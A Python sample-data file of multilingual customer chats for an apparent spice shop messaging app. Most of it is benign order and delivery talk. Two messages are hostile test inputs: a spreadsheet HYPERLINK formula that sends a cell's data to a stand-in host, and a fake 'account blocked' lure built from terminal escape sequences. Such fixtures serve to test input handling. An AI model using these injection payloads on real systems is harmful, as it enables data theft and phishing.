"""The conversations of the last hours."""

from __future__ import annotations

from scripts.sample.phrases.templates import MENU, ORDER, ORDER_ES, ORDER_HI

# The first name of each customer, and (minutes before the time of loading, code, text) of each message.
TODAY: tuple[tuple[str, tuple[tuple[float, str, str | None], ...]], ...] = (
    ("Gauri", ((2.2, "c?", "Hi, is the goda masala ready? I'm near the shop 🛵"),)),
    (
        "Ana",
        (
            (
                27.1,
                "t",
                "Hi Ana, order <b>SS-24097</b> was delivered. We hope you enjoy it!<br>Questions &amp; feedback: just reply here.",
            ),
            (5.3, "c^?", "Chegou tudo! A família inteira adorou 👨‍👩‍👧‍👦🇵🇹💃🏽"),
        ),
    ),
    (
        "Priya",
        (
            (31.5, "c", "Hi, SS-24188 came just now but one jar is broken 😟"),
            (30.8, "ci", None),
            (30.6, "ci", "turmeric all over the box"),
            (24.9, "s^", "Oh no, so sorry Priya! A new jar goes out today, no charge. Please keep the rest 🙏"),
            (22.2, "c", "That was quick. It's for my sister's wedding lunch, so today would be lovely"),
            (18.4, "s", "Then Imran brings it over himself this evening 🛵"),
            (16.0, "c^", "You people are the best ❤️"),
            (9.6, "si", "Packed twice this time 😄"),
            (7.9, "c?", "😂😂 that will survive anything"),
        ),
    ),
    (
        "結衣",
        (
            (41.2, "c", "こんにちは。グリーンカルダモンの在庫はありますか？"),
            (34.0, "s", "結衣様、はい、ございます。100 gでUS$16です。"),
            (12.7, "c^?", "2袋お願いします🙇‍♀️"),
        ),
    ),
    ("Lucky Draw", ((14.3, "c~?", '=HYPERLINK("https://prize.example/?d="&A1,"Claim your $500 voucher")'),)),
    (
        "Daniel",
        (
            (53.9, "c", "hello"),
            (53.8, "bb", MENU),
            (53.1, "cb", "Track my order"),
            (53.0, "b", "Order SS-23986: handed to SwiftPost, tracking 5510482297. Expected in 1–2 days."),
            (50.4, "c", "Brilliant, cheers"),
        ),
    ),
    (
        "فاطمة",
        (
            (66.3, "ca", None),
            (57.7, "s^", "سمعت الرسالة الصوتية، سنجهز الزعفران اليوم إن شاء الله."),
            (49.2, "c", "شكراً جزيلاً 🌹"),
        ),
    ),
    ("Account", ((46.6, "c", "\x1b[31mACCOUNT BLOCKED\x1b[0m verify within 10 min \x1b]0;verify at prize.example"),)),
    (
        "Nandini",
        (
            (79.5, "c", "Can you send the GST invoice for SS-24011? My accountant is asking"),
            (72.1, "sd", "Invoice SS-24011.pdf"),
            (69.8, "c", "Got it 👍🏽 Same quantity next month"),
            (61.0, "s^", "Noted, thank you Nandini!"),
        ),
    ),
    ("Tom", ((83.4, "s!", "Hi Tom, did the cinnamon arrive in the end?"),)),
    (
        "Rekha",
        (
            (
                88.0,
                "t",
                "Hi Rekha, order <b>SS-24102</b> was delivered. We hope you enjoy it!<br>Questions &amp; feedback: just reply here.",
            ),
        ),
    ),
    (
        "Akash",
        (
            (
                88.0,
                "t",
                "Hi Akash, order <b>SS-24115</b> was delivered. We hope you enjoy it!<br>Questions &amp; feedback: just reply here.",
            ),
        ),
    ),
    (
        "रमेश",
        (
            (104.0, "c", "नमस्ते, हल्दी का रेट क्या है?"),
            (98.2, "s", "नमस्ते रमेश जी, 500 g ₹190 का है।"),
            (94.9, "c", "2 पैकेट भेज दीजिए, इंदौर"),
            (92.3, "s^", "कुल ₹440 होगा, डिलीवरी ₹60। बुक कर दूँ?"),
            (90.7, "c^", "जी, UPI कर दिया 🙏"),
            (90.1, "t", ORDER_HI.format(order="SS-24304", name="रमेश", qty=2, item="हल्दी", size="500 g", total="₹440")),
        ),
    ),
    (
        "Lucía",
        (
            (127.0, "c", "Hola, ¿el chile de Cachemira pica mucho? Es para mis hijos"),
            (118.6, "s", "Casi nada, Lucía. Media cucharadita y listo 🙂"),
            (111.3, "c", "¡Genial! Entonces me llevo 2"),
            (
                108.8,
                "t",
                ORDER_ES.format(
                    order="SS-24303", name="Lucía", qty=2, item="chile de Cachemira", size="250 g", total="US$36"
                ),
            ),
        ),
    ),
    (
        "静",
        (
            (151.4, "c", "订单SS-23871到哪里了？"),
            (142.0, "s", "静您好，已到上海海关，运单号5510379913。"),
            (139.5, "c", "好的，谢谢"),
        ),
    ),
    (
        "Grace",
        (
            (176.2, "cd~", "PO-118.pdf"),
            (161.9, "s", "Received, thank you Grace! Dispatch in three days."),
            (158.3, "c^", "Perfect. And the pepper whole this time, please"),
            (155.0, "s", "Whole it is 👍"),
        ),
    ),
    (
        "सुनीता",
        (
            (214.0, "c", "पुरणपोळीला किती वेलची घालायची?"),
            (205.5, "s", "चार माणसांना पाव चमचा पुरे 🙂"),
            (133.2, "ci", "झाली बघा!"),
            (121.7, "s^", "वा! मस्त दिसते आहे 😋"),
        ),
    ),
    (
        "Joe",
        (
            (246.0, "cv", "Is the chai supposed to foam like this?"),
            (231.8, "s", "Haha yes, that's the fresh ginger. Lower flame 🔥"),
            (229.1, "c^", "Ok good 😅 kitchen's clean again"),
        ),
    ),
    (
        "אורי",
        (
            (268.3, "c", "מתי תגיע ההזמנה SS-23744?"),
            (251.6, "s", "בודקים, אורי. מספר מעקב: 5510361120"),
            (247.4, "c", "סבבה 👌🏻"),
        ),
    ),
    (
        "நளினி",
        (
            (301.0, "c", "வணக்கம், ஏலக்காய் இருக்கிறதா?"),
            (288.5, "s", "வணக்கம் நளினி, இருக்கிறது. 100 g ₹460."),
            (283.7, "c", "சரி, 1 வேண்டும்"),
            (279.9, "t", ORDER.format(order="SS-24299", name="நளினி", qty=1, item="ஏலக்காய்", size="100 g", total="₹520")),
        ),
    ),
)
